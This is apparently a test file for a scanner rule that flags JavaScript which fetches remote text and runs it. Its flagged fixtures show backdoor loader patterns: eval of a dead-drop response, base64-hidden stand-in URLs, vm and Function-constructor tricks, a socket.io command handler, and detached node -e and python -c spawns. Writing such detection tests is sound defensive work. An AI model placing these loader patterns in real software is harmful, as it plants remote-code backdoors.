import { ruleTest } from '../../testing/rule-tester.js';
import rule from './remote-code-execution.js';

ruleTest(rule, {
  clean: [
    {
      name: 'htmx-style same-origin script fetch + eval',
      file: 'src/lazy.js',
      code: "fetch('/static/widgets.js').then((r) => r.text()).then((code) => { eval(code); });\n",
    },
    {
      name: 'template engine compiles a fetched template (no code sink on the response)',
      file: 'src/view.js',
      code: "const tpl = await fetch('https://cdn.example.com/t.html').then((r) => r.text());\nconst render = _.template(tpl);\nconst fn = new Function('data', compiled);\n",
    },
    {
      name: 'webpack eval-source-map module (literal eval)',
      file: 'dist/main.js',
      code: 'eval("var x = 1;\\n//# sourceURL=webpack:///./src/index.js");\nfetch(url).then(r => r.json());\n',
    },
    {
      name: 'JSON from an API parsed, not run',
      file: 'server/prices.js',
      code: "const axios = require('axios');\nconst r = await axios.get('https://api.coingecko.com/api/v3/simple/price');\nconst prices = JSON.parse(r.data);\n",
    },
    {
      name: 'a build check runs a literal program with node -e (no network text reaches it)',
      file: 'scripts/check.js',
      code: "const { spawnSync } = require('child_process');\nconst r = spawnSync(process.execPath, ['-e', 'console.log(process.versions.v8)']);\nfetch('https://registry.npmjs.org/x').then((r) => r.json());\n",
    },
    {
      name: 'config loader: require-from-string over a local file',
      file: 'lib/load.js',
      code: "const fs = require('fs');\nconst requireFromString = require('require-from-string');\nmodule.exports = (f) => requireFromString(fs.readFileSync(f, 'utf8'), f);\nconst axios = require('axios');\n",
    },
    {
      name: 'a downloaded JSON handed to a spawned node script as a data argument, not as -e code',
      file: 'scripts/report.js',
      code: "const { spawn } = require('child_process');\nfetch('https://api.example.com/stats').then((r) => r.text()).then((t) => spawn(process.execPath, ['scripts/print.js', t]));\n",
    },
    {
      name: 'dApp shows a Solana memo (RPC read, no code sink on it)',
      file: 'src/memo.js',
      code: "const { Connection } = require('@solana/web3.js');\nconst conn = new Connection('https://api.mainnet-beta.solana.com');\nexports.memo = async (sig) => {\n  const tx = await conn.getParsedTransaction(sig);\n  return JSON.parse(Buffer.from(tx.meta.logMessages[0], 'base64').toString());\n};\nexports.fmt = new Function('x', 'return x.toFixed(2)');\n",
    },
  ],
  flagged: [
    {
      name: 'npoint dead drop evaluated (await)',
      file: 'server/controllers/userController.js',
      code: [
        "const axios = require('axios');",
        'exports.getCookie = async () => {',
        "  const rs = await axios.get('https://api.npoint.io/e8e29958efde154f3d7d');",
        '  eval(rs.data.cookie);',
        '};',
      ].join('\n'),
      findings: [{ line: 4, severity: 'critical', confidence: 'high', decoded: 'https://api.npoint.io/e8e29958efde154f3d7d', message: /eval runs code from the response of axios\.get/ }],
    },
    {
      name: 'then-callback chain with a base64 URL',
      file: 'routes/api.js',
      code: "const u = Buffer.from('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==', 'base64').toString();\nfetch(u).then(r => r.text()).then(t => new Function(t)());\n",
      findings: [{ line: 2, decoded: 'https://evil.example/a' }],
    },
    {
      name: 'URL from a base64 env var, error body run in catch',
      file: 'api/errorHandler.js',
      code: [
        "const axios = require('axios');",
        'const run = async () => {',
        '  const src = atob(process.env.DB_API_KEY);',
        '  try { await axios.get(src); } catch (err) { eval(err.response.data); }',
        '};',
      ].join('\n'),
      findings: [{ line: 4, confidence: 'high', decoded: 'URL in environment variable DB_API_KEY', message: /error response/ }],
    },
    {
      name: 'https.get callback, data events, vm',
      file: 'lib/update.js',
      code: [
        "const https = require('https'); const vm = require('vm');",
        "https.get('https://203.0.113.7:1224/client/5', (res) => {",
        "  let body = '';",
        "  res.on('data', (c) => { body += c; });",
        "  res.on('end', () => vm.runInThisContext(body));",
        '});',
      ].join('\n'),
      findings: [{ line: 5, decoded: 'https://203.0.113.7:1224/client/5' }],
    },
    {
      name: 'socket.io command handler',
      file: 'client.js',
      code: "const io = require('socket.io-client');\nconst socket = io('http://198.51.100.4:3000');\nsocket.on('command', (msg) => { eval(msg.code); });\n",
      findings: [{ line: 3 }],
    },
    {
      name: 'helper function returns the download; require of the written file',
      file: 'src/boot.js',
      code: [
        "const fs = require('fs'); const axios = require('axios');",
        "async function download(u) { const r = await axios.get(u); return r.data; }",
        "const code = await download('https://x.example/p.js');",
        "fs.writeFileSync('/tmp/p.js', code);",
        "require('/tmp/' + 'p.js');",
      ].join('\n'),
      findings: [{ line: 5, message: /require\(<file just written>\)/ }],
    },
    {
      name: '[].constructor.constructor (Function reached through an array) runs an https.get body',
      file: 'index.js',
      code: [
        "const https = require('https');",
        "https.get('https://cfg.example.invalid/x', (res) => {",
        "  let body = '';",
        "  res.on('data', (c) => (body += c));",
        "  res.on('end', () => {",
        '    const F = [].constructor.constructor;',
        "    F('require', body)(require);",
        '  });',
        '});',
      ].join('\n'),
      findings: [{ line: 7, severity: 'critical', confidence: 'high', decoded: 'https://cfg.example.invalid/x' }],
    },
    {
      name: 'AsyncFunction constructor from Object.getPrototypeOf runs fetched code',
      file: 'server/boot.js',
      code: "const AF = Object.getPrototypeOf(async function () {}).constructor;\nfetch('https://cfg.example.invalid/y').then((r) => r.text()).then((t) => new AF('require', t)(require));\n",
      findings: [{ line: 2, severity: 'critical', decoded: 'https://cfg.example.invalid/y' }],
    },
    {
      name: 'downloaded text handed to a detached node -e child',
      file: 'api/index.js',
      code: [
        "const { spawn } = require('child_process');",
        "fetch(atob('aHR0cHM6Ly9jZmcuZXhhbXBsZS5pbnZhbGlkL3o=')).then((r) => r.text()).then((src) => {",
        "  spawn(process.execPath, ['-e', src], { detached: true, stdio: 'ignore' }).unref();",
        '});',
      ].join('\n'),
      findings: [{ line: 3, severity: 'critical', confidence: 'high', decoded: 'https://cfg.example.invalid/z', message: /spawn\(process\.execPath, \['-e'/ }],
    },
    {
      name: 'python -c with a downloaded program (execFile)',
      file: 'tools/run.js',
      code: "const cp = require('child_process');\nconst axios = require('axios');\naxios.get('https://cfg.example.invalid/p.py').then(({ data }) => cp.execFile('python3', ['-c', data]));\n",
      findings: [{ line: 3, severity: 'critical', decoded: 'https://cfg.example.invalid/p.py' }],
    },
    {
      name: 'require-from-string loads a got() body as a module',
      file: 'lib/session.js',
      code: [
        "const got = require('got');",
        "const requireFromString = require('require-from-string');",
        '(async () => {',
        "  const res = await got('https://cfg.example.invalid/m.js');",
        '  requireFromString(res.body);',
        '})();',
      ].join('\n'),
      findings: [{ line: 5, severity: 'critical', decoded: 'https://cfg.example.invalid/m.js', message: /requireFromString\(\) \(require-from-string\)/ }],
    },
    {
      name: 'Solana getParsedTransaction memo decoded and evaled (the tx signature is not a URL)',
      file: 'index.js',
      code: [
        "const { Connection } = require('@solana/web3.js');",
        "const conn = new Connection('https://api.mainnet-beta.solana.com');",
        '(async () => {',
        "  const tx = await conn.getParsedTransaction('5'.repeat(88), { maxSupportedTransactionVersion: 0 });",
        "  const memo = tx.transaction.message.instructions.find((i) => i.program === 'spl-memo').parsed;",
        "  eval(Buffer.from(memo, 'base64').toString());",
        '})();',
      ].join('\n'),
      findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /conn\.getParsedTransaction \(blockchain RPC\)/ }],
    },
  ],
});
